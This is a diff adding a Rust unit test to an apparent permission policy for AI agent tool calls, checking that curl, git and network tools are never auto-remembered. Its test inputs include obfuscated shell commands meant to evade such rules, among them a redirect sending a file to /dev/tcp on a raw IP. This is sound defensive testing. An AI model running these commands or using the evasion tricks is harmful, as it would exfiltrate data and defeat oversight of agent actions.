@@ -377,3 +377,42 @@ fn a_load_error_carries_the_key_path_and_the_suggestion() {
     assert_eq!(parts("[]"), (None, None, None));
     assert_eq!(parts("{\n  \"a\": 1,,\n}"), (None, None, some("2:10")));
 }
+
+#[test]
+fn never_remember_names_tools_and_the_programs_a_shell_command_runs() {
+    let policy = Policy::from_json_str(
+        r#"{"neverRemember": ["WebFetch", "mcp__github__*", "Bash(curl)", "Bash(git)"],
+            "commands": {"tools": {"Bash": "command"}, "rules": []}}"#,
+    )
+    .unwrap();
+    let call = |tool: &str, args: serde_json::Value| {
+        crate::call::Call::from_value(&serde_json::json!({
+            "agent": "a", "tool": tool, "args": args, "source": "agent"
+        }))
+        .unwrap()
+    };
+    assert!(policy.never_remembers(&call("WebFetch", serde_json::json!({}))));
+    assert!(policy.never_remembers(&call("mcp__github__push", serde_json::json!({}))));
+    assert!(!policy.never_remembers(&call("Read", serde_json::json!({}))));
+    for command in [
+        "curl https://x.example",
+        "env curl x",
+        "/usr/bin/curl x",
+        "\"cu\"\"rl\" x",
+        "echo $(echo curl) | sh",
+        "ls && git push",
+        "cat x > /dev/tcp/1.2.3.4/80",
+    ] {
+        let bash = call("Bash", serde_json::json!({ "command": command }));
+        assert!(policy.never_remembers(&bash), "{command}");
+    }
+    for command in ["ls -la", "cargo test"] {
+        let bash = call("Bash", serde_json::json!({ "command": command }));
+        assert!(!policy.never_remembers(&bash), "{command}");
+    }
+    // A shell tool whose command the policy cannot read is never remembered.
+    assert!(policy.never_remembers(&call("Bash", serde_json::json!({ "cmd": "ls" }))));
+    assert!(Policy::from_json_str(r#"{"neverRemember": ["Bash(curl"]}"#).is_err());
+    assert!(Policy::from_json_str(r#"{"grantTtl": "0s"}"#).is_err());
+    assert!(Policy::from_json_str(r#"{"grantTtl": 5}"#).is_err());
+}
